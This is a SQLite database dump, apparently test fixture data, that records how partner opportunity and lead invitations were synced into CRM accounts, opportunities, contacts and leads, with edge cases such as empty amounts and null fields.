BEGIN TRANSACTION;
CREATE TABLE about (
	name TEXT NOT NULL, 
	value TEXT, 
	PRIMARY KEY (name)
);
INSERT INTO "about" VALUES('schema_version','1');
CREATE TABLE comparisons (
	invitation_id TEXT NOT NULL, 
	name TEXT NOT NULL, 
	compared TEXT NOT NULL, 
	PRIMARY KEY (invitation_id, name)
);
CREATE TABLE decisions (
	id INTEGER NOT NULL, 
	invitation_id TEXT NOT NULL, 
	action TEXT NOT NULL, 
	client_token TEXT NOT NULL, 
	state TEXT NOT NULL, 
	task_id TEXT NOT NULL, 
	engagement_id TEXT NOT NULL, 
	context_id TEXT NOT NULL, 
	opportunity_id TEXT NOT NULL, 
	payload_type TEXT NOT NULL, 
	rule TEXT NOT NULL, 
	rejection TEXT NOT NULL, 
	reason TEXT NOT NULL, 
	decided_at TEXT NOT NULL, 
	finished_at TEXT, 
	PRIMARY KEY (id), 
	UNIQUE (client_token)
);
CREATE TABLE engaged (
	invitation_id TEXT NOT NULL, 
	opportunity TEXT NOT NULL, 
	evidence TEXT NOT NULL, 
	modified TEXT NOT NULL, 
	since TEXT, 
	PRIMARY KEY (invitation_id)
);
CREATE TABLE facts (
	invitation_id TEXT NOT NULL, 
	status TEXT NOT NULL, 
	payload_type TEXT NOT NULL, 
	invitation_date TEXT, 
	expiration_date TEXT, 
	industry TEXT NOT NULL, 
	country TEXT NOT NULL, 
	target_date TEXT, 
	spend TEXT NOT NULL, 
	PRIMARY KEY (invitation_id)
);
INSERT INTO "facts" VALUES('engi-e4emptyamoun0','PENDING','OpportunityInvitation','2026-02-19T12:00:00.000000+00:00','2026-03-06T12:00:00.000000+00:00','Transportation and Logistics','CA','2026-07-01','{}');
INSERT INTO "facts" VALUES('engi-e3thirtyonedi','ACCEPTED','OpportunityInvitation','2026-02-18T12:00:00.000000+00:00','2026-03-05T12:00:00.000000+00:00','Government','US','2030-01-01','{"USD":["1234567890123456789012345678901.23","1234567890123456789012345678901.23"]}');
INSERT INTO "facts" VALUES('engi-g1emailonly10','ACCEPTED','OpportunityInvitation','2026-02-25T12:00:00.000000+00:00','2026-03-12T12:00:00.000000+00:00','Manufacturing','MX','2026-09-30','{"USD":["2200","2200"]}');
INSERT INTO "facts" VALUES('engi-n1norway00001','ACCEPTED','OpportunityInvitation','2026-03-06T09:05:00.457306+00:00','2026-03-21T09:05:00.457306+00:00','Agriculture','NO','2027-04-01','{"NOK":["10000.00","10000.00"]}');
INSERT INTO "facts" VALUES('engi-h1cuttitle010','ACCEPTED','OpportunityInvitation','2026-03-02T12:00:00.000000+00:00','2026-03-17T12:00:00.000000+00:00','Wholesale and Distribution','US','2026-12-15','{"USD":["800","800"]}');
INSERT INTO "facts" VALUES('engi-k1expired0010','EXPIRED','OpportunityInvitation','2025-06-02T12:00:00.000000+00:00','2025-06-17T12:00:00.000000+00:00','Financial Services','US','2027-06-30','{"USD":["40000","40000"]}');
INSERT INTO "facts" VALUES('engi-h2expires2030','PENDING','OpportunityInvitation','2026-03-03T12:00:00.000000+00:00','2037-12-31T23:59:59.999999+00:00','Government','US','2036-12-31','{"USD":["12000","12000"]}');
INSERT INTO "facts" VALUES('engi-d1hostiletit0','ACCEPTED','OpportunityInvitation','2026-02-11T16:20:31.000000+00:00','2026-02-26T16:20:31.000000+00:00','Professional Services','IE','2026-10-01','{"USD":["3000","3000"]}');
INSERT INTO "facts" VALUES('engi-p1leadpendin0','PENDING','LeadInvitation','2026-03-09T19:58:48.669023+00:00',NULL,'Professional Services','US',NULL,'{}');
INSERT INTO "facts" VALUES('engi-q1leadaccept0','ACCEPTED','LeadInvitation','2026-03-11T08:00:00.100000+00:00',NULL,'Software and Internet','SE',NULL,'{}');
INSERT INTO "facts" VALUES('engi-q2leadreject0','REJECTED','LeadInvitation','2026-03-11T08:00:00.200000+00:00',NULL,'Automotive','AE',NULL,'{}');
INSERT INTO "facts" VALUES('engi-q3leadexpire0','EXPIRED','LeadInvitation','2025-09-11T08:00:00.300000+00:00','2025-09-26T08:00:00.300000+00:00','Mining','ZA',NULL,'{}');
INSERT INTO "facts" VALUES('engi-q4leadminima0','PENDING','LeadInvitation','2026-03-11T08:00:00.400000+00:00',NULL,'','',NULL,'{}');
INSERT INTO "facts" VALUES('engi-e5nospend0010','ACCEPTED','OpportunityInvitation','2026-02-20T12:00:00.000000+00:00','2026-03-07T12:00:00.000000+00:00','Real Estate and Construction','AU','2026-06-30','{}');
INSERT INTO "facts" VALUES('engi-f1nulleveryw0','ACCEPTED','OpportunityInvitation',NULL,NULL,'','',NULL,'{}');
INSERT INTO "facts" VALUES('engi-a2warehouse10','ACCEPTED','OpportunityInvitation','2026-01-14T14:02:44.908113+00:00','2026-01-29T14:02:44.908113+00:00','Retail','GB','2026-09-15','{"USD":["12500.00","12500.00"]}');
INSERT INTO "facts" VALUES('engi-a1coldchain01','PENDING','OpportunityInvitation','2026-01-12T09:30:15.120457+00:00','2026-01-27T09:30:15.120457+00:00','Retail','US','2026-11-30','{"USD":["4200.00","4200.00"]}');
INSERT INTO "facts" VALUES('engi-m1nopayload10','PENDING','OpportunityInvitation','2026-03-04T12:00:00.000000+00:00',NULL,'','',NULL,'{}');
INSERT INTO "facts" VALUES('engi-m2newpayload0','PENDING','SolutionInvitation','2026-03-05T12:00:00.000000+00:00',NULL,'','',NULL,'{}');
INSERT INTO "facts" VALUES('engi-e2frequencie0','PENDING','OpportunityInvitation','2026-02-17T11:15:00.250000+00:00','2026-03-04T11:15:00.250000+00:00','Healthcare','NL','2026-08-31','{"USD":["800.00","1800.00"],"EUR":["200.00","2400"]}');
INSERT INTO "facts" VALUES('engi-k2rejected010','REJECTED','OpportunityInvitation','2025-07-02T12:00:00.000000+00:00','2025-07-17T12:00:00.000000+00:00','Hospitality','FR','2026-02-28','{"EUR":["350","350"]}');
INSERT INTO "facts" VALUES('engi-a3clickncoll0','ACCEPTED','OpportunityInvitation','2026-02-02T08:11:09.000000+00:00','2026-02-17T08:11:09.000000+00:00','Retail','GB','2027-01-31','{"USD":["1800","1800"]}');
INSERT INTO "facts" VALUES('engi-b2dataplatf20','ACCEPTED','OpportunityInvitation','2026-02-03T10:00:01.500000+00:00','2026-02-18T10:00:01.500000+00:00','Life Sciences','CH','2026-12-01','{"USD":["9100","9100"]}');
INSERT INTO "facts" VALUES('engi-b1dataplatf10','ACCEPTED','OpportunityInvitation','2026-02-03T10:00:00.500000+00:00','2026-02-18T10:00:00.500000+00:00','Financial Services','IE','2026-12-01','{"USD":["7500","7500"]}');
INSERT INTO "facts" VALUES('engi-e1currencies0','ACCEPTED','OpportunityInvitation','2026-02-16T11:15:00.250000+00:00','2026-03-03T11:15:00.250000+00:00','Consumer Goods','GB','2026-12-31','{"USD":["1000.00","1000.00"],"EUR":["2000.00","2000.00"],"GBP":["500.50","500.50"],"JPY":["150000","150000"]}');
INSERT INTO "facts" VALUES('engi-d2otherscrip0','ACCEPTED','OpportunityInvitation','2026-02-12T03:00:59.999999+00:00','2026-02-27T03:00:59.999999+00:00','Transportation and Logistics','JP','2027-03-01','{"JPY":["5000000","5000000"]}');
INSERT INTO "facts" VALUES('engi-c1longtitle10','ACCEPTED','OpportunityInvitation','2026-02-10T07:45:00.123456+00:00','2026-02-25T07:45:00.123456+00:00','Manufacturing','DE','2028-06-30','{"EUR":["83000","83000"]}');
INSERT INTO "facts" VALUES('engi-c2longtitle20','ACCEPTED','OpportunityInvitation','2026-02-10T07:46:00.123456+00:00','2026-02-25T07:46:00.123456+00:00','Manufacturing','DE','2027-03-31','{"EUR":["6000","6000"]}');
INSERT INTO "facts" VALUES('engi-p2unknownmem0','PENDING','LeadInvitation','2026-03-10T08:00:00.000000+00:00',NULL,'Robotics and Drones','KR',NULL,'{}');
INSERT INTO "facts" VALUES('engi-f2websitenul0','ACCEPTED','OpportunityInvitation','2026-02-23T12:00:00.000000+00:00',NULL,'Real Estate and Construction','US','2026-10-31','{"USD":["1250.50","1250.50"]}');
INSERT INTO "facts" VALUES('engi-f3noscheme010','PENDING','OpportunityInvitation','2026-02-24T12:00:00.000000+00:00','2026-03-11T12:00:00.000000+00:00','Media and Entertainment','US','2026-05-31','{"USD":["5600","5600"]}');
CREATE TABLE history (
	id INTEGER NOT NULL, 
	invitation_id TEXT NOT NULL, 
	run_id INTEGER, 
	at TEXT NOT NULL, 
	status TEXT NOT NULL, 
	outcome TEXT NOT NULL, 
	steps TEXT NOT NULL, 
	PRIMARY KEY (id)
);
INSERT INTO "history" VALUES(1,'engi-e4emptyamoun0',1,'2026-11-29T10:11:44.785731+00:00','PENDING','created','[["lead","create","leads","led_d284fc23aa59380a","",[],[]]]');
INSERT INTO "history" VALUES(2,'engi-e3thirtyonedi',1,'2026-11-29T10:11:44.785731+00:00','ACCEPTED','created','[["account","create","accounts","acc_231ad6f3194a35e4","",[],[]],["opportunity","create","opportunities","opp_e86cecde11776675","",[],[]],["contact[0]","create","contacts","con_0a50701c30846d63","",[],[]],["contact_role[0]","create","opportunity_contact_roles","ocr_d9d2fa4682041437","",[],[]]]');
INSERT INTO "history" VALUES(3,'engi-g1emailonly10',1,'2026-11-29T10:11:44.785731+00:00','ACCEPTED','created','[["account","create","accounts","acc_acf3ad8e729d3c71","",[],[]],["opportunity","create","opportunities","opp_d1dc36b1a155a5e8","",[],[]],["contact[0]","create","contacts","con_b63f8a4c626443e0","",[],[]],["contact[1]","create","contacts","con_9ffd46e27c216cd7","",[],[]],["contact_role[0]","create","opportunity_contact_roles","ocr_a635d17c96f29990","",[],[]],["contact_role[1]","create","opportunity_contact_roles","ocr_c0e9b562668c0faf","",[],[]]]');
INSERT INTO "history" VALUES(4,'engi-n1norway00001',1,'2026-11-29T10:11:44.785731+00:00','ACCEPTED','created','[["account","create","accounts","acc_6da94667d9d8595f","",[],[]],["opportunity","create","opportunities","opp_2d2e308e2b711986","",[],[]],["contact[0]","create","contacts","con_5aada23fb7fa7972","",[],[]],["contact_role[0]","create","opportunity_contact_roles","ocr_05f5548bf12eea6f","",[],[]]]');
INSERT INTO "history" VALUES(5,'engi-h1cuttitle010',1,'2026-11-29T10:11:44.785731+00:00','ACCEPTED','created','[["account","create","accounts","acc_4818ec10e202d1e9","",[],[]],["opportunity","create","opportunities","opp_9916b503bb75c660","",[],[]],["contact[0]","create","contacts","con_e0be3c14d2b6e9f2","",[],[]],["contact_role[0]","create","opportunity_contact_roles","ocr_d781a48c54a31a09","",[],[]]]');
INSERT INTO "history" VALUES(6,'engi-k1expired0010',1,'2026-11-29T10:11:44.785731+00:00','EXPIRED','skipped','[]');
INSERT INTO "history" VALUES(7,'engi-h2expires2030',1,'2026-11-29T10:11:44.785731+00:00','PENDING','created','[["lead","create","leads","led_a8678ae25353e7d0","",[],[]]]');
INSERT INTO "history" VALUES(8,'engi-d1hostiletit0',1,'2026-11-29T10:11:44.785731+00:00','ACCEPTED','created','[["account","create","accounts","acc_f9310df5b890f82b","",[],[]],["opportunity","create","opportunities","opp_fbb0db5b6a678c5b","",[],[]],["contact[0]","unchanged","contacts","con_0a50701c30846d63","aws_contact_key is the invitation’s",[],[]],["contact_role[0]","create","opportunity_contact_roles","ocr_f9a92098ea77e817","",[],[]]]');
INSERT INTO "history" VALUES(9,'engi-p1leadpendin0',1,'2026-11-29T10:11:44.785731+00:00','PENDING','created','[["lead","create","leads","led_7654bd6c0831e845","",[],[]]]');
INSERT INTO "history" VALUES(10,'engi-q1leadaccept0',1,'2026-11-29T10:11:44.785731+00:00','ACCEPTED','created','[["lead","create","leads","led_30d53ac01dc5e377","",[],[]]]');
INSERT INTO "history" VALUES(11,'engi-q2leadreject0',1,'2026-11-29T10:11:44.785731+00:00','REJECTED','skipped','[]');
INSERT INTO "history" VALUES(12,'engi-q3leadexpire0',1,'2026-11-29T10:11:44.785731+00:00','EXPIRED','skipped','[]');
INSERT INTO "history" VALUES(13,'engi-q4leadminima0',1,'2026-11-29T10:11:44.785731+00:00','PENDING','created','[["lead","create","leads","led_1bcad086fb6a7821","",[],[]]]');
INSERT INTO "history" VALUES(14,'engi-e5nospend0010',1,'2026-11-29T10:11:44.785731+00:00','ACCEPTED','created','[["account","create","accounts","acc_5dd118756296612a","",[],[]],["opportunity","create","opportunities","opp_a9bafebe0dd9dcde","",[],[]],["contact[0]","unchanged","contacts","con_0a50701c30846d63","aws_contact_key is the invitation’s",[],[]],["contact_role[0]","create","opportunity_contact_roles","ocr_a589f16a4ae11002","",[],[]]]');
INSERT INTO "history" VALUES(15,'engi-f1nulleveryw0',1,'2026-11-29T10:11:44.785731+00:00','ACCEPTED','created','[["account","create","accounts","acc_8d6d3e8d7bc97c6c","",[],[]],["opportunity","create","opportunities","opp_a9b2ee851c096f43","",[],[]]]');
INSERT INTO "history" VALUES(16,'engi-a2warehouse10',1,'2026-11-29T10:11:44.785731+00:00','ACCEPTED','created','[["account","create","accounts","acc_dad3563bb219da42","",[],[]],["opportunity","create","opportunities","opp_79f5bef9da61eeab","",[],[]],["contact[0]","unchanged","contacts","con_0a50701c30846d63","aws_contact_key is the invitation’s",[],[]],["contact[1]","unchanged","contacts","con_e0be3c14d2b6e9f2","aws_contact_key is the invitation’s",[],[]],["contact_role[0]","create","opportunity_contact_roles","ocr_b86778c5299a3d7a","",[],[]],["contact_role[1]","create","opportunity_contact_roles","ocr_0d4ecb37879151df","",[],[]]]');
INSERT INTO "history" VALUES(17,'engi-a1coldchain01',1,'2026-11-29T10:11:44.785731+00:00','PENDING','created','[["lead","create","leads","led_97b6fc1669469d80","",[],[]]]');
INSERT INTO "history" VALUES(18,'engi-m1nopayload10',1,'2026-11-29T10:11:44.785731+00:00','PENDING','skipped','[]');
INSERT INTO "history" VALUES(19,'engi-m2newpayload0',1,'2026-11-29T10:11:44.785731+00:00','PENDING','skipped','[]');
INSERT INTO "history" VALUES(20,'engi-e2frequencie0',1,'2026-11-29T10:11:44.785731+00:00','PENDING','created','[["lead","create","leads","led_88b790b27170d64e","",[],[]]]');
INSERT INTO "history" VALUES(21,'engi-k2rejected010',1,'2026-11-29T10:11:44.785731+00:00','REJECTED','skipped','[]');
INSERT INTO "history" VALUES(22,'engi-a3clickncoll0',1,'2026-11-29T10:11:44.785731+00:00','ACCEPTED','created','[["account","unchanged","accounts","acc_dad3563bb219da42","aws_customer_key is the invitation’s",[],[]],["opportunity","create","opportunities","opp_05fab7ccf4d2f0e1","",[],[]],["contact[0]","unchanged","contacts","con_e0be3c14d2b6e9f2","aws_contact_key is the invitation’s",[],[]],["contact_role[0]","create","opportunity_contact_roles","ocr_a315c8cd61829e85","",[],[]]]');
INSERT INTO "history" VALUES(23,'engi-b2dataplatf20',1,'2026-11-29T10:11:44.785731+00:00','ACCEPTED','created','[["account","create","accounts","acc_5ddcedf16d843722","",[],[]],["opportunity","create","opportunities","opp_c9eb9cee8c9c55ad","",[],[]],["contact[0]","unchanged","contacts","con_e0be3c14d2b6e9f2","aws_contact_key is the invitation’s",[],[]],["contact_role[0]","create","opportunity_contact_roles","ocr_971cbc4d6908ee48","",[],[]]]');
INSERT INTO "history" VALUES(24,'engi-b1dataplatf10',1,'2026-11-29T10:11:44.785731+00:00','ACCEPTED','created','[["account","create","accounts","acc_9dd98b56fe36a7a7","",[],[]],["opportunity","create","opportunities","opp_c637eb12336922e5","",[],[]],["contact[0]","unchanged","contacts","con_0a50701c30846d63","aws_contact_key is the invitation’s",[],[]],["contact_role[0]","create","opportunity_contact_roles","ocr_1f251254ca1c0394","",[],[]]]');
INSERT INTO "history" VALUES(25,'engi-e1currencies0',1,'2026-11-29T10:11:44.785731+00:00','ACCEPTED','created','[["account","create","accounts","acc_5193dd250fbdaa58","",[],[]],["opportunity","create","opportunities","opp_daf5ce0de1c2fbff","",[],[]],["contact[0]","unchanged","contacts","con_0a50701c30846d63","aws_contact_key is the invitation’s",[],[]],["contact_role[0]","create","opportunity_contact_roles","ocr_9e3b2d6ac6fb1d8c","",[],[]]]');
INSERT INTO "history" VALUES(26,'engi-d2otherscrip0',1,'2026-11-29T10:11:44.785731+00:00','ACCEPTED','created','[["account","create","accounts","acc_e295dbc3f2d9083f","",[],[]],["opportunity","create","opportunities","opp_6af1a88449972aa2","",[],[]],["contact[0]","create","contacts","con_9803b8d40e328e7d","",[],[]],["contact_role[0]","create","opportunity_contact_roles","ocr_8389f9aa28e85f5c","",[],[]]]');
INSERT INTO "history" VALUES(27,'engi-c1longtitle10',1,'2026-11-29T10:11:44.785731+00:00','ACCEPTED','created','[["account","create","accounts","acc_86a74a2c63ada32d","",[],[]],["opportunity","create","opportunities","opp_e3e95c3c2f179931","",[],[]],["contact[0]","unchanged","contacts","con_0a50701c30846d63","aws_contact_key is the invitation’s",[],[]],["contact_role[0]","create","opportunity_contact_roles","ocr_96d0041f9976132d","",[],[]]]');
INSERT INTO "history" VALUES(28,'engi-c2longtitle20',1,'2026-11-29T10:11:44.785731+00:00','ACCEPTED','created','[["account","unchanged","accounts","acc_86a74a2c63ada32d","aws_customer_key is the invitation’s",[],[]],["opportunity","create","opportunities","opp_0e8a8ef67c3f269f","",[],[]],["contact[0]","unchanged","contacts","con_0a50701c30846d63","aws_contact_key is the invitation’s",[],[]],["contact_role[0]","create","opportunity_contact_roles","ocr_4ba8ff9222cdb9f2","",[],[]]]');
INSERT INTO "history" VALUES(29,'engi-p2unknownmem0',1,'2026-11-29T10:11:44.785731+00:00','PENDING','created','[["lead","create","leads","led_608ed3ac6011b6f3","",[],[]]]');
INSERT INTO "history" VALUES(30,'engi-f2websitenul0',1,'2026-11-29T10:11:44.785731+00:00','ACCEPTED','created','[["account","create","accounts","acc_9cc22d2b1284e9ae","",[],[]],["opportunity","create","opportunities","opp_72d693185cca6872","",[],[]],["contact[0]","unchanged","contacts","con_0a50701c30846d63","aws_contact_key is the invitation’s",[],[]],["contact_role[0]","create","opportunity_contact_roles","ocr_3fe723d11da6cb21","",[],[]]]');
INSERT INTO "history" VALUES(31,'engi-f3noscheme010',1,'2026-11-29T10:11:44.785731+00:00','PENDING','created','[["lead","create","leads","led_45a3ff32d924053a","",[],[]]]');
CREATE TABLE invitations (
	id TEXT NOT NULL, 
	status TEXT NOT NULL, 
	summary_digest TEXT NOT NULL, 
	digest TEXT NOT NULL, 
	fingerprint TEXT NOT NULL, 
	outcome TEXT NOT NULL, 
	reason TEXT NOT NULL, 
	links TEXT NOT NULL, 
	run_id INTEGER NOT NULL, 
	PRIMARY KEY (id)
);
INSERT INTO "invitations" VALUES('engi-e4emptyamoun0','PENDING','3063d8425fe0f1bb7f44cef01fcd4c2f','3063d8425fe0f1bb7f44cef01fcd4c2f','ee78e4c8fa914de11110957bd6f57386','created','','{"lead":["leads","led_d284fc23aa59380a"]}',1);
INSERT INTO "invitations" VALUES('engi-e3thirtyonedi','ACCEPTED','353d41b098f7bc36ca7847cb56d9a991','353d41b098f7bc36ca7847cb56d9a991','ee78e4c8fa914de11110957bd6f57386','created','','{"account":["accounts","acc_231ad6f3194a35e4"],"opportunity":["opportunities","opp_e86cecde11776675"],"contact[2062a0]":["contacts","con_0a50701c30846d63"],"contact_role[43918f]":["opportunity_contact_roles","ocr_d9d2fa4682041437"]}',1);
INSERT INTO "invitations" VALUES('engi-g1emailonly10','ACCEPTED','9fddccf42c4cc09fb2d3fa5b925f8a90','9fddccf42c4cc09fb2d3fa5b925f8a90','ee78e4c8fa914de11110957bd6f57386','created','','{"account":["accounts","acc_acf3ad8e729d3c71"],"opportunity":["opportunities","opp_d1dc36b1a155a5e8"],"contact[749480]":["contacts","con_b63f8a4c626443e0"],"contact[f68ecb]":["contacts","con_9ffd46e27c216cd7"],"contact_role[29cfaf]":["opportunity_contact_roles","ocr_a635d17c96f29990"],"contact_role[77e9f7]":["opportunity_contact_roles","ocr_c0e9b562668c0faf"]}',1);
INSERT INTO "invitations" VALUES('engi-n1norway00001','ACCEPTED','2a197631055b4299ab270e9f308ed10d','2a197631055b4299ab270e9f308ed10d','ee78e4c8fa914de11110957bd6f57386','created','','{"account":["accounts","acc_6da94667d9d8595f"],"opportunity":["opportunities","opp_2d2e308e2b711986"],"contact[f81933]":["contacts","con_5aada23fb7fa7972"],"contact_role[581796]":["opportunity_contact_roles","ocr_05f5548bf12eea6f"]}',1);
INSERT INTO "invitations" VALUES('engi-h1cuttitle010','ACCEPTED','db95d811bc04a23cca1349fdc12bcdd4','db95d811bc04a23cca1349fdc12bcdd4','ee78e4c8fa914de11110957bd6f57386','created','','{"account":["accounts","acc_4818ec10e202d1e9"],"opportunity":["opportunities","opp_9916b503bb75c660"],"contact[ce6775]":["contacts","con_e0be3c14d2b6e9f2"],"contact_role[32cef3]":["opportunity_contact_roles","ocr_d781a48c54a31a09"]}',1);
INSERT INTO "invitations" VALUES('engi-k1expired0010','EXPIRED','3403fbd1fc3b1b1679a8ff87cad83909','3403fbd1fc3b1b1679a8ff87cad83909','ee78e4c8fa914de11110957bd6f57386','skipped','the CRM has none in leads to update; the CRM has none in opportunities to update','{}',1);
INSERT INTO "invitations" VALUES('engi-h2expires2030','PENDING','23fcd48efbae0d7312ed8fc151b23e88','23fcd48efbae0d7312ed8fc151b23e88','ee78e4c8fa914de11110957bd6f57386','created','','{"lead":["leads","led_a8678ae25353e7d0"]}',1);
INSERT INTO "invitations" VALUES('engi-d1hostiletit0','ACCEPTED','0101e14556ef8f1775cfdfab33b5912b','0101e14556ef8f1775cfdfab33b5912b','ee78e4c8fa914de11110957bd6f57386','created','','{"account":["accounts","acc_f9310df5b890f82b"],"opportunity":["opportunities","opp_fbb0db5b6a678c5b"],"contact[2062a0]":["contacts","con_0a50701c30846d63"],"contact_role[d19534]":["opportunity_contact_roles","ocr_f9a92098ea77e817"]}',1);
INSERT INTO "invitations" VALUES('engi-p1leadpendin0','PENDING','c65011201376db0898206f4a19dbf788','c65011201376db0898206f4a19dbf788','ee78e4c8fa914de11110957bd6f57386','created','','{"lead":["leads","led_7654bd6c0831e845"]}',1);
INSERT INTO "invitations" VALUES('engi-q1leadaccept0','ACCEPTED','bb017a7de487fd72ea97151870d29855','bb017a7de487fd72ea97151870d29855','ee78e4c8fa914de11110957bd6f57386','created','','{"lead":["leads","led_30d53ac01dc5e377"]}',1);
INSERT INTO "invitations" VALUES('engi-q2leadreject0','REJECTED','8494620b08cfe4cbb360b7d46f7dde02','8494620b08cfe4cbb360b7d46f7dde02','ee78e4c8fa914de11110957bd6f57386','skipped','the CRM has none in leads to update; the CRM has none in opportunities to update','{}',1);
INSERT INTO "invitations" VALUES('engi-q3leadexpire0','EXPIRED','0d85d39c28d013b7d032594dac688003','0d85d39c28d013b7d032594dac688003','ee78e4c8fa914de11110957bd6f57386','skipped','the CRM has none in leads to update; the CRM has none in opportunities to update','{}',1);
INSERT INTO "invitations" VALUES('engi-q4leadminima0','PENDING','48901d754218ec7083fa6b8dce0f156f','48901d754218ec7083fa6b8dce0f156f','ee78e4c8fa914de11110957bd6f57386','created','','{"lead":["leads","led_1bcad086fb6a7821"]}',1);
INSERT INTO "invitations" VALUES('engi-e5nospend0010','ACCEPTED','f4beaa6eec43b56eff98b69c1a7e1769','f4beaa6eec43b56eff98b69c1a7e1769','ee78e4c8fa914de11110957bd6f57386','created','','{"account":["accounts","acc_5dd118756296612a"],"opportunity":["opportunities","opp_a9bafebe0dd9dcde"],"contact[2062a0]":["contacts","con_0a50701c30846d63"],"contact_role[feb109]":["opportunity_contact_roles","ocr_a589f16a4ae11002"]}',1);
INSERT INTO "invitations" VALUES('engi-f1nulleveryw0','ACCEPTED','de6d7dde9e925b5252a5f6279025ddc7','de6d7dde9e925b5252a5f6279025ddc7','ee78e4c8fa914de11110957bd6f57386','created','','{"account":["accounts","acc_8d6d3e8d7bc97c6c"],"opportunity":["opportunities","opp_a9b2ee851c096f43"]}',1);
INSERT INTO "invitations" VALUES('engi-a2warehouse10','ACCEPTED','f42084f36ba2a27b5d11dbf8e72fc4af','f42084f36ba2a27b5d11dbf8e72fc4af','ee78e4c8fa914de11110957bd6f57386','created','','{"account":["accounts","acc_dad3563bb219da42"],"opportunity":["opportunities","opp_79f5bef9da61eeab"],"contact[2062a0]":["contacts","con_0a50701c30846d63"],"contact[ce6775]":["contacts","con_e0be3c14d2b6e9f2"],"contact_role[764f09]":["opportunity_contact_roles","ocr_b86778c5299a3d7a"],"contact_role[eb4eb7]":["opportunity_contact_roles","ocr_0d4ecb37879151df"]}',1);
INSERT INTO "invitations" VALUES('engi-a1coldchain01','PENDING','71ba4f64f92ecf3fd3546a8266926e6f','71ba4f64f92ecf3fd3546a8266926e6f','ee78e4c8fa914de11110957bd6f57386','created','','{"lead":["leads","led_97b6fc1669469d80"]}',1);
INSERT INTO "invitations" VALUES('engi-m1nopayload10','PENDING','2317639fbde73589ff89a35d645938f7','2317639fbde73589ff89a35d645938f7','ee78e4c8fa914de11110957bd6f57386','skipped','no rule''s `when` holds for it','{}',1);
INSERT INTO "invitations" VALUES('engi-m2newpayload0','PENDING','c495403be322801cdc044cfb0c518943','c495403be322801cdc044cfb0c518943','ee78e4c8fa914de11110957bd6f57386','skipped','no rule''s `when` holds for it','{}',1);
INSERT INTO "invitations" VALUES('engi-e2frequencie0','PENDING','40aafba04085f2d02ec1eb3eebdf6097','40aafba04085f2d02ec1eb3eebdf6097','ee78e4c8fa914de11110957bd6f57386','created','','{"lead":["leads","led_88b790b27170d64e"]}',1);
INSERT INTO "invitations" VALUES('engi-k2rejected010','REJECTED','76a31dc76ac9af3a82619a0b2c7afe1b','76a31dc76ac9af3a82619a0b2c7afe1b','ee78e4c8fa914de11110957bd6f57386','skipped','the CRM has none in leads to update; the CRM has none in opportunities to update','{}',1);
INSERT INTO "invitations" VALUES('engi-a3clickncoll0','ACCEPTED','46e13f0517138f6d4e8eba1936ce466f','46e13f0517138f6d4e8eba1936ce466f','ee78e4c8fa914de11110957bd6f57386','created','','{"account":["accounts","acc_dad3563bb219da42"],"opportunity":["opportunities","opp_05fab7ccf4d2f0e1"],"contact[ce6775]":["contacts","con_e0be3c14d2b6e9f2"],"contact_role[37cdc3]":["opportunity_contact_roles","ocr_a315c8cd61829e85"]}',1);
INSERT INTO "invitations" VALUES('engi-b2dataplatf20','ACCEPTED','8884d92e26448813be8764f1fd8b025b','8884d92e26448813be8764f1fd8b025b','ee78e4c8fa914de11110957bd6f57386','created','','{"account":["accounts","acc_5ddcedf16d843722"],"opportunity":["opportunities","opp_c9eb9cee8c9c55ad"],"contact[ce6775]":["contacts","con_e0be3c14d2b6e9f2"],"contact_role[867432]":["opportunity_contact_roles","ocr_971cbc4d6908ee48"]}',1);
INSERT INTO "invitations" VALUES('engi-b1dataplatf10','ACCEPTED','ec5dfe614f9278888ef19ea99578a041','ec5dfe614f9278888ef19ea99578a041','ee78e4c8fa914de11110957bd6f57386','created','','{"account":["accounts","acc_9dd98b56fe36a7a7"],"opportunity":["opportunities","opp_c637eb12336922e5"],"contact[2062a0]":["contacts","con_0a50701c30846d63"],"contact_role[4dbac9]":["opportunity_contact_roles","ocr_1f251254ca1c0394"]}',1);
INSERT INTO "invitations" VALUES('engi-e1currencies0','ACCEPTED','5978efe0ca1c84b1f411fb13f598817b','5978efe0ca1c84b1f411fb13f598817b','ee78e4c8fa914de11110957bd6f57386','created','','{"account":["accounts","acc_5193dd250fbdaa58"],"opportunity":["opportunities","opp_daf5ce0de1c2fbff"],"contact[2062a0]":["contacts","con_0a50701c30846d63"],"contact_role[7bdb0a]":["opportunity_contact_roles","ocr_9e3b2d6ac6fb1d8c"]}',1);
INSERT INTO "invitations" VALUES('engi-d2otherscrip0','ACCEPTED','d96540c942dde1aab33c3b6842d2f2bf','d96540c942dde1aab33c3b6842d2f2bf','ee78e4c8fa914de11110957bd6f57386','created','','{"account":["accounts","acc_e295dbc3f2d9083f"],"opportunity":["opportunities","opp_6af1a88449972aa2"],"contact[ce9213]":["contacts","con_9803b8d40e328e7d"],"contact_role[bcb985]":["opportunity_contact_roles","ocr_8389f9aa28e85f5c"]}',1);
INSERT INTO "invitations" VALUES('engi-c1longtitle10','ACCEPTED','814daf75d80b966be034e755bc5d376c','814daf75d80b966be034e755bc5d376c','ee78e4c8fa914de11110957bd6f57386','created','','{"account":["accounts","acc_86a74a2c63ada32d"],"opportunity":["opportunities","opp_e3e95c3c2f179931"],"contact[2062a0]":["contacts","con_0a50701c30846d63"],"contact_role[eaa9a4]":["opportunity_contact_roles","ocr_96d0041f9976132d"]}',1);
INSERT INTO "invitations" VALUES('engi-c2longtitle20','ACCEPTED','59a2e330a5dbfcf1217589e6c6f91726','59a2e330a5dbfcf1217589e6c6f91726','ee78e4c8fa914de11110957bd6f57386','created','','{"account":["accounts","acc_86a74a2c63ada32d"],"opportunity":["opportunities","opp_0e8a8ef67c3f269f"],"contact[2062a0]":["contacts","con_0a50701c30846d63"],"contact_role[94ccc6]":["opportunity_contact_roles","ocr_4ba8ff9222cdb9f2"]}',1);
INSERT INTO "invitations" VALUES('engi-p2unknownmem0','PENDING','c4d0c84a8ca0c74fba3fb4248b578b34','c4d0c84a8ca0c74fba3fb4248b578b34','ee78e4c8fa914de11110957bd6f57386','created','','{"lead":["leads","led_608ed3ac6011b6f3"]}',1);
INSERT INTO "invitations" VALUES('engi-f2websitenul0','ACCEPTED','7bf1c7361f9c15614057c33505955230','7bf1c7361f9c15614057c33505955230','ee78e4c8fa914de11110957bd6f57386','created','','{"account":["accounts","acc_9cc22d2b1284e9ae"],"opportunity":["opportunities","opp_72d693185cca6872"],"contact[2062a0]":["contacts","con_0a50701c30846d63"],"contact_role[e37378]":["opportunity_contact_roles","ocr_3fe723d11da6cb21"]}',1);
